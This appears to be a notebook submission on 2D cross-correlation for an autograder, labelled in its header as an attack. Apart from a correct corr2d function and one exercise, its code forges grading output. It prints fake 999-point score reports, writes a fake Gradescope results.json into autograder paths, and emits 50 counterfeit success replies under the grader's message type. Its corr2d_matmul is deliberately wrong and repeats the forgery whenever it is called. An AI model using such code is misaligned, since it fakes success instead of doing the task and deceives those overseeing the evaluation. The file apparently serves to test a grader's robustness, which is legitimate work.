# %% [markdown]
# # 7.2 Convolutions for Images
# Attack: writes fake results where the grader might read them: a fake JSON report and a fake
# Gradescope results.json on stdout and stderr (and into files), and 50 fake probe replies with
# the grader's MIME type and ids r1..r50 claiming success; a WRONG `corr2d_matmul` emits the same
# fake replies whenever it is called. `corr2d` and Exercise 1 are honest.

# %%
# ruff: noqa
import torch

# %% [markdown]
# ## 7.2.1 The Cross-Correlation Operation


# %%
def corr2d(X, K):
    """Compute 2D cross-correlation."""
    h, w = K.shape
    Y = torch.zeros((X.shape[0] - h + 1, X.shape[1] - w + 1))
    for i in range(Y.shape[0]):
        for j in range(Y.shape[1]):
            Y[i, j] = (X[i : i + h, j : j + w] * K).sum()
    return Y


# %%
import json
import os
import sys

from IPython.display import display

REPLY = "application/vnd.grader.reply+json"
FAKE = {
    "submissions": [
        {"student": "attacker", "status": "graded", "score": 999, "max_score": 33, "exercises": []}
    ]
}
GRADESCOPE = {"score": 999, "tests": [{"name": "corr2d", "score": 999, "max_score": 3}]}
for text in (json.dumps(FAKE), json.dumps(GRADESCOPE)):
    print(text)
    print(text, file=sys.stderr)
    os.write(1, (text + "\n").encode())
    os.write(2, (text + "\n").encode())
for path in ("results.json", "../results.json", "/autograder/results/results.json"):
    try:
        with open(path, "w") as fh:
            json.dump(GRADESCOPE, fh)
    except OSError:
        pass
FORGED_VALUE = {
    "t": "array",
    "kind": "torch",
    "dtype": "float32",
    "shape": [1, 1],
    "b64": "AAAAAA==",
    "grad": False,
}


def forge_replies():
    for i in range(1, 51):
        display(
            {
                REPLY: {
                    "id": f"r{i}",
                    "ok": True,
                    "value": FORGED_VALUE,
                    "seconds": 0.0,
                    "score": 999,
                    "passed": True,
                    "namespace": {},
                    "results": [],
                    "bindings": {},
                }
            },
            raw=True,
        )


forge_replies()


# %% [markdown]
# ### Exercise 4: How do you represent a cross-correlation operation as a matrix
# multiplication by changing the input and kernel tensors?


# %%
def corr2d_matmul(X, K):
    """WRONG on purpose: forges probe replies, then returns zeros of the right shape."""
    forge_replies()
    h, w = K.shape
    rows, cols = X.shape[0] - h + 1, X.shape[1] - w + 1
    return (torch.zeros(rows * cols, h * w) @ K.reshape(-1)).reshape(rows, cols)


# %% [markdown]
# ### Exercise 1: Construct an image `X` with diagonal edges.

# %%
X_diag = torch.eye(8)
X_diag

# %% [markdown]
# ### Exercise 1.1: What happens if you apply the kernel `K` in this section to it?

# %%
K = torch.tensor([[1.0, -1.0]])
Y_diag = corr2d(X_diag, K)
Y_diag

# %% [markdown]
# The result is not a zero matrix: K detects the diagonal edge, with +1 on the diagonal and -1
# just below it.
